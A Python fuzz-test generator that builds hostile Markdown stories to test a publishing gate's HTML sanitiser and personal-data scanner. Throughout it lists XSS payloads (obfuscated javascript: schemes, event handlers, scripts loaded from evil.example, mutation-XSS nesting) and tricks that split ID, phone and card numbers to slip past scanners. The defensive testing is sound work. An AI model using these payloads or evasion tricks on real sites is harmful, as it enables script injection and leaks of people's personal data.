"""Hostile Markdown stories from a small grammar, for the differential fuzz test of the publish gate.

``documents(seed, count)`` yields ``count`` stories; story ``n`` depends only on ``(seed, n)``, so a
failing one can be regenerated alone (``document(seed, n)``). A story body is a sequence of blocks
(paragraphs, raw HTML, comments, quotes, list items, reference definitions, attribute lists,
fences, headings, tables, admonitions, ``markdown="1"`` blocks) whose inline parts mix text,
emphasis, code spans, links and images, raw tags, entities and personal data (valid ID numbers,
mobiles and bank cards, plain or split by markup). Lines end in LF, CRLF or a lone CR, mixed within
one body; the front matter (written by :func:`tests.support.project.story_text`) stays LF.

Nothing here knows what the gate accepts: the grammar only makes what a writer, a pasted web page
or an attacker could put in a story, with the corners where a source scanner, Python-Markdown and a
browser disagree over-represented.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from tests.support.personal_data import card, id18
from tests.support.project import story_text

YEAR = 2026
DATE = "2026-03-02 09:00"  # before tests.support.project.BUILD_DATE
DEFAULT_SEED = 20261130
DEFAULT_COUNT = 2000

Rand = random.Random


# --- personal data --------------------------------------------------------------------------------

_REGIONS = ("360723", "110105", "440305", "320102", "510104", "620102", "130602", "370203")


def an_id(r: Rand) -> str:
    born = f"{r.randint(1940, 2005)}{r.randint(1, 12):02d}{r.randint(1, 28):02d}"
    return id18(r.choice(_REGIONS), born, f"{r.randint(0, 999):03d}", lower=r.random() < 0.2)


def a_mobile(r: Rand) -> str:
    return r.choice(("13", "15", "18")) + str(r.randint(0, 9)) + "".join(r.choice("0123456789") for _ in range(8))


def a_card(r: Rand) -> str:
    body = r.choice(("6222", "6217", "6228", "6212", "4367", "9558")) + "".join(
        r.choice("0123456789") for _ in range(r.choice((11, 12, 14))))
    return card(body)


def _split_points(r: Rand, value: str) -> list[str]:
    """``value`` cut into 2 to 4 non-empty pieces."""
    cuts = sorted(r.sample(range(1, len(value)), r.randint(1, 3)))
    bounds = [0, *cuts, len(value)]
    return [value[a:b] for a, b in zip(bounds, bounds[1:])]


# How a piece of a number can be wrapped, or what can stand between two pieces: each shows the
# digits side by side on the page (or nearly: a zero-width or soft hyphen, a non-breaking hyphen).
_WRAPS: tuple[Callable[[str], str], ...] = (
    lambda s: f"**{s}**",
    lambda s: f"*{s}*",
    lambda s: f"_{s}_",
    lambda s: f"<span>{s}</span>",
    lambda s: f"<b>{s}</b>",
    lambda s: f"<span title=\"<\">{s}</span>",
    lambda s: f"`{s}`",
    lambda s: f"[{s}](https://www.gov.cn/)",
    lambda s: f"[{s}][gov]",
    lambda s: f"<a href=\"https://www.gov.cn/\">{s}</a>",
    lambda s: "".join(f"&#{ord(c)};" for c in s),
    lambda s: "".join(f"&#x{ord(c):x};" for c in s),
)
_BETWEEN = ("<!-- -->", "<!---->", "<!-->", "&#8203;", "&shy;", "&zwj;", "&#x2060;", "\u2011", "\u00ad",
            "<wbr>", "\\\n", "\n", " ", "-", "\u2010", "&nbsp;", "<span></span>", "**", "``", "")


def split_number(r: Rand, value: str) -> str:
    pieces = _split_points(r, value)
    out = []
    for n, piece in enumerate(pieces):
        if n:
            out.append(r.choice(_BETWEEN) if r.random() < 0.5 else "")
        out.append(r.choice(_WRAPS)(piece) if r.random() < 0.6 else piece)
    return "".join(out)


def personal(r: Rand) -> str:
    value = r.choice((an_id, a_mobile, a_card))(r)
    form = r.random()
    if form < 0.15:
        return value
    if form < 0.25 and len(value) == 11:
        sep = r.choice(" -\u2011\u2010\u00a0\u3000")
        return f"{value[:3]}{sep}{value[3:7]}{sep}{value[7:]}"
    return split_number(r, value)


# --- URLs -------------------------------------------------------------------------------------------

_SAFE_URLS = ("https://www.gov.cn/", "http://www.gov.cn/zhengce/", "mailto:mzj@example.gov.cn", "tel:0797-8123456",
              "../fine/", "fine.md", "#top", "/about/", "images/none.jpg", "https://mz.example.gov.cn/notices/")
_SCHEMES = ("javascript:", "JaVaScRiPt:", "javascript&colon;", "&#x6A;avascript:", "&#106;avascript:",
            "java\tscript:", "java&#9;script:", "java&Tab;script:", "java&NewLine;script:", " javascript:",
            "\u200bjavascript:", "jav&#x61;script:", "vbscript:", "data:text/html,", "data:text/html;base64,",
            "data:image/svg+xml,", "livescript:", "file:///", "ftp://", "//evil.example/", "javascript%3A")
_CALLS = ("alert(1)", "alert(document.domain)", "void(0)", "x()", "%61lert(1)", "/*x*/alert`1`")


def a_url(r: Rand) -> str:
    if r.random() < 0.35:
        return r.choice(_SAFE_URLS)
    scheme = r.choice(_SCHEMES)
    if scheme.startswith(("data:", "file:", "ftp:", "//")):
        return scheme + r.choice(("%3Cscript%3Ealert(1)%3C/script%3E", "x", "evil.example/a"))
    return scheme + r.choice(_CALLS)


def _quote(r: Rand, value: str) -> str:
    q = r.choice(('"', "'", ""))
    if not q:
        return value.replace(" ", "")
    return f"{q}{value}{q}"


# --- raw HTML -------------------------------------------------------------------------------------

_ODD_VALUES = ("<", ">", "\"<\"", "}", "{", "a'b", 'a"b', "</p>", "<!--", "-->", "]]>", "<script>", "x>y<z")


def odd_attribute(r: Rand) -> str:
    name = r.choice(("title", "class", "alt", "lang", "data-x", "aria-label"))
    value = r.choice(_ODD_VALUES)
    return f'{name}="{value}"' if '"' not in value else f"{name}='{value}'"


def handler(r: Rand) -> str:
    name = r.choice(("onclick", "onerror", "onload", "onmouseover", "ONCLICK", "onfocus", "ontoggle", "onbegin"))
    return f"{name}={_quote(r, r.choice(_CALLS))}"


def _maybe(r: Rand, p: float, text: str) -> str:
    return text if r.random() < p else ""


def dangerous_tag(r: Rand) -> str:
    odd = " " + odd_attribute(r) if r.random() < 0.4 else ""
    u = a_url(r)
    choices = (
        lambda: f"<script{odd}>alert(1)</script>",
        lambda: f"<SCRIPT{odd} src=\"https://evil.example/x.js\"></SCRIPT>",
        lambda: f"<iframe{odd} src={_quote(r, u)}></iframe>",
        lambda: f"<img src=x{odd} {handler(r)}>",
        lambda: f"<img src={_quote(r, u)}{odd}>",
        lambda: f"<img srcset=\"{u} 1x\"{odd}>",
        lambda: f"<a href={_quote(r, u)}{odd}>链接</a>",
        lambda: f"<a{odd} {handler(r)}>链接</a>",
        lambda: f"<meta http-equiv=\"refresh\" content=\"0;url={u}\"{odd}>",
        lambda: f"<base href=\"https://evil.example/\"{odd}>",
        lambda: f"<style{odd}>body{{background:url(https://evil.example/)}}</style>",
        lambda: f"<link rel=\"stylesheet\" href=\"https://evil.example/x.css\"{odd}>",
        lambda: f"<form action={_quote(r, u)}{odd}><button formaction=\"{u}\">提交</button></form>",
        lambda: f"<svg{odd} {handler(r)}><circle r=\"1\"/></svg>",
        lambda: f"<svg><a xlink:href=\"{u}\"><text>链接</text></a></svg>",
        lambda: "<svg><script>alert(1)</script></svg>",
        lambda: f"<math><mi xlink:href=\"{u}\">x</mi></math>",
        lambda: f"<math><mtext><table><mglyph><style><img src=x {handler(r)}></style></mglyph></table></mtext></math>",
        lambda: f"<object data={_quote(r, u)}{odd}></object>",
        lambda: f"<embed src={_quote(r, u)}{odd}>",
        lambda: f"<details open {handler(r)}>说明</details>",
        lambda: f"<noscript><p title=\"</noscript><img src=x {handler(r)}>\"></noscript>",
        lambda: f"<textarea></textarea><img src=x {handler(r)}>",
        lambda: "<template><script>alert(1)</script></template>",
        lambda: f"<input autofocus {handler(r)}>",
        lambda: f"<body {handler(r)}>",
        lambda: f"<p style=\"background:url(javascript:alert(1))\"{odd}>样式</p>",
        lambda: f"<div id=\"mz-content\"{odd}>覆盖</div>",
        lambda: "</div></article><script>alert(1)</script>",
        lambda: f"<xmp><img src=x {handler(r)}></xmp>",
        lambda: f"<p {handler(r)}{odd}>文字</p>",
        lambda: f"<a href=\"{u}\" {handler(r)}>链接</a>",
    )
    return r.choice(choices)()


def benign_tag(r: Rand) -> str:
    choices = (
        lambda: "<span>文字</span>",
        lambda: "<b>加粗</b>",
        lambda: "<sup>1</sup>",
        lambda: "<br>",
        lambda: f"<abbr {odd_attribute(r)}>民政</abbr>",
        lambda: "<a href=\"https://www.gov.cn/\">中国政府网</a>",
        lambda: "<img src=\"images/none.jpg\" alt=\"示意\">",
        lambda: f"<span {odd_attribute(r)}>文字</span>",
        lambda: "<del>旧</del><ins>新</ins>",
        lambda: "<p>段落</p>",
    )
    return r.choice(choices)()


def comment(r: Rand) -> str:
    inner = r.choice(("说明", dangerous_tag(r), "", " - ", "mzpress: allow html 需要嵌入视频", personal(r)))
    forms = (
        f"<!-- {inner} -->",
        f"<!-->{inner}-->",
        f"<!--->{inner}-->",
        f"<!-- 说明 --!>{inner}-->",
        f"<!-- {inner}",
        f"<!--{inner}--!>",
        "<!---->",
        "<!-->",
        "<!--->",
        f"<!--<!-->{inner}-->",
        f"<!-- a -- b -->{inner}",
        f"<!-- mzpress: allow {r.choice(('html', 'privacy', 'html.event-handler', 'privacy.mobile'))} 理由 -->",
    )
    return r.choice(forms)


def entity(r: Rand) -> str:
    return r.choice(("&#x6A;avascript:", "&colon;", "&#8203;", "&shy;", "&lt;script&gt;", "&#60;script&#62;",
                     "&amp;", "&nbsp;", "&NewLine;", "&Tab;", "&#0;", "&#x3c;img src=x onerror=alert(1)&#x3e;",
                     "&lt;!--&gt;", "&#xFEFF;", "&#8232;"))


# --- Markdown inline --------------------------------------------------------------------------------

_WORDS = ("示例县民政局", "开展敬老活动", "社区", "志愿者", "慰问", "困难群众", "办理", "咨询", "服务", "居民")


def words(r: Rand) -> str:
    return "".join(r.choice(_WORDS) for _ in range(r.randint(1, 3)))


def link_text(r: Rand) -> str:
    return r.choice(("说明", "点击", "说\n明", "外[中[内]]", "[嵌套]", "**加粗**", "", "a\\]b", "`代码`"))


def link(r: Rand) -> str:
    u = a_url(r)
    forms = (
        lambda: f"[{link_text(r)}]({u})",
        lambda: f"[{link_text(r)}](<{u}>)",
        lambda: f"![{link_text(r)}]({u})",
        lambda: f"[{link_text(r)}]({u} \"标题\")",
        lambda: f"[{link_text(r)}][{r.choice(('a', 'b', 'gov', ''))}]",
        lambda: f"[{r.choice(('a', 'b'))}]",
        lambda: f"<{u}>",
        lambda: u,
    )
    return r.choice(forms)()


def inline(r: Rand) -> str:
    pick = r.random()
    if pick < 0.22:
        return words(r)
    if pick < 0.36:
        return personal(r)
    if pick < 0.48:
        return link(r)
    if pick < 0.58:
        return dangerous_tag(r)
    if pick < 0.64:
        return benign_tag(r)
    if pick < 0.70:
        return comment(r)
    if pick < 0.76:
        return entity(r)
    if pick < 0.82:
        mark = r.choice(("*", "**", "_", "__", "***"))
        return f"{mark}{words(r)}{mark}"
    if pick < 0.88:
        ticks = r.choice(("`", "``", "\\`"))
        return f"{ticks}{r.choice((words(r), dangerous_tag(r), personal(r)))}{ticks if r.random() < 0.7 else ''}"
    if pick < 0.93:
        return r.choice(("*", "_", "`", "[", "]", "<", ">", "{", "}", "\\", "&", "~~", "**"))
    return r.choice(("{: onclick=alert(1) }", '{: title="}" onclick="x()" }', "{: .note }", "{ #id }",
                     "{: href=javascript:alert(1) }", "{: style=\"color:red\" }"))


def paragraph(r: Rand) -> str:
    return "".join(inline(r) for _ in range(r.randint(1, 4)))


# --- Markdown blocks --------------------------------------------------------------------------------


def reference_definition(r: Rand) -> str:
    label = r.choice(("a", "b", "gov", "", "A"))
    u = a_url(r)
    return r.choice((
        f"[{label}]: {u}",
        f"[{label}]:\n{u}",
        f"[{label}]:\n    {u}",
        f"[{label}]: <{u}>",
        f"[{label}]: {u} \"标题\"",
        f"   [{label}]: {u}",
        f"> [{label}]: {u}",
        f"- 项\n\n    [{label}]: {u}",
        "[gov]: https://www.gov.cn/",
    ))


def attr_list(r: Rand) -> str:
    body = r.choice(("onclick=\"alert(1)\"", 'title="}" onclick="x()"', ".note", "#anchor", "title='{'",
                     "onmouseover=x()", "href=\"javascript:alert(1)\"", "style=\"color:red\"", "data-x=1",
                     "title=\"<script>\"", "src=\"javascript:alert(1)\""))
    return f"{{: {body} }}"


def fence(r: Rand) -> str:
    marker = r.choice(("```", "~~~", "````", "~~~~~~~~", "```python", "``` `x`"))
    content = "\n".join(r.choice((dangerous_tag(r), personal(r), words(r))) for _ in range(r.randint(1, 2)))
    run = marker[:len(marker) - len(marker.lstrip(marker[0]))]  # the backticks or tildes
    close = r.choice((run, run, "", "```", "~~~"))
    return f"{marker}\n{content}\n{close}".rstrip("\n")


def block(r: Rand) -> str:
    pick = r.random()
    if pick < 0.30:
        return paragraph(r)
    if pick < 0.40:
        return dangerous_tag(r)
    if pick < 0.46:
        return comment(r)
    if pick < 0.52:
        return "> " + paragraph(r).replace("\n", "\n> ")
    if pick < 0.59:
        depth = r.randint(0, 3)
        return "\n".join("    " * n + r.choice(("- ", "* ", "1. ")) + paragraph(r).replace("\n", " ")
                         for n in range(depth + 1))
    if pick < 0.66:
        return reference_definition(r)
    if pick < 0.72:
        return paragraph(r) + "\n" + attr_list(r)
    if pick < 0.79:
        return fence(r)
    if pick < 0.83:
        return f"## {words(r)} {attr_list(r) if r.random() < 0.5 else ''}".rstrip()
    if pick < 0.87:
        return f"| 姓名 | 电话 |\n| --- | --- |\n| 张某 | {inline(r).replace(chr(10), ' ')} |"
    if pick < 0.90:
        title = r.choice(("说明", "<img src=x onerror=alert(1)>", "&lt;b&gt;", personal(r)))
        return f"!!! note \"{title}\"\n    {paragraph(r)}"
    if pick < 0.94:
        return f"<div markdown=\"1\">\n{paragraph(r)}\n</div>"
    if pick < 0.97:
        return r.choice(("`", "```", "~~~~~~~~", "***", "\\`", "<", "<!--", "-->"))
    return "    " + r.choice((dangerous_tag(r), personal(r)))  # an indented code block


_BREAKS = ("\n", "\r\n", "\r")


def quiet_paragraph(r: Rand) -> str:
    """Ordinary prose: words, emphasis, a harmless tag or link."""
    parts = []
    for _ in range(r.randint(1, 3)):
        pick = r.random()
        if pick < 0.5:
            parts.append(words(r) + "。")
        elif pick < 0.7:
            parts.append(f"**{words(r)}**")
        elif pick < 0.85:
            parts.append(benign_tag(r))
        else:
            parts.append(f"[{words(r)}]({r.choice(_SAFE_URLS)})")
    return "".join(parts)


def body(r: Rand) -> str:
    if r.random() < 0.35:  # one odd fragment in ordinary prose: what slips through alone
        blocks = [quiet_paragraph(r) for _ in range(r.randint(1, 3))]
        at = r.randrange(len(blocks) + 1)
        if r.random() < 0.5:
            blocks.insert(at, block(r))
        else:
            host = blocks[min(at, len(blocks) - 1)]
            cut = r.randint(0, len(host))
            blocks[min(at, len(blocks) - 1)] = host[:cut] + inline(r) + host[cut:]
    else:
        blocks = [block(r) for _ in range(r.randint(1, 4))]
    style = r.random()
    out: list[str] = []
    for n, text in enumerate(blocks):
        if n:
            out.append(r.choice(("\n\n", "\n", "\n\n\n")))
        out.append(text)
    joined = "".join(out)
    if style < 0.6:
        return joined  # LF
    if style < 0.75:
        return joined.replace("\n", "\r\n")
    if style < 0.85:
        return joined.replace("\n", "\r")
    return "".join(r.choice(_BREAKS) if ch == "\n" else ch for ch in joined)  # mixed


def summary(r: Rand) -> str | None:
    """Sometimes a front-matter summary that hides digits from a source scanner (YAML escapes)."""
    if r.random() >= 0.08:
        return None
    value = r.choice((a_mobile, an_id, a_card))(r)
    at = r.randint(1, len(value) - 2)
    escaped = r.choice((f"\\x3{value[at]}", f"\\u003{value[at]}", f"\\U0000003{value[at]}"))
    return f'"测试{value[:at]}{escaped}{value[at + 1:]}摘要"'


# --- documents --------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Document:
    index: int
    slug: str
    relpath: str  # relative to the project root
    url: str  # relative to the site root
    body: str
    text: str  # the whole file
    summary: str | None = None  # the front-matter summary when it is not the default one


def document(seed: int, index: int) -> Document:
    r = random.Random(f"{seed}:{index}")
    slug = f"fz-{index:04d}"
    text_body = body(r)
    fields = dict(title=f"模糊测试第{index}篇", date=DATE, unit="office")
    value = summary(r)
    if value is not None:
        fields["summary"] = value
    text = story_text(**fields, body="测试正文。") + "\n" + text_body + "\n"
    return Document(index, slug, f"content/stories/{YEAR}/{slug}.md", f"stories/{YEAR}/{slug}/", text_body, text,
                    value)


def documents(seed: int, count: int, start: int = 0) -> Iterator[Document]:
    for index in range(start, start + count):
        yield document(seed, index)
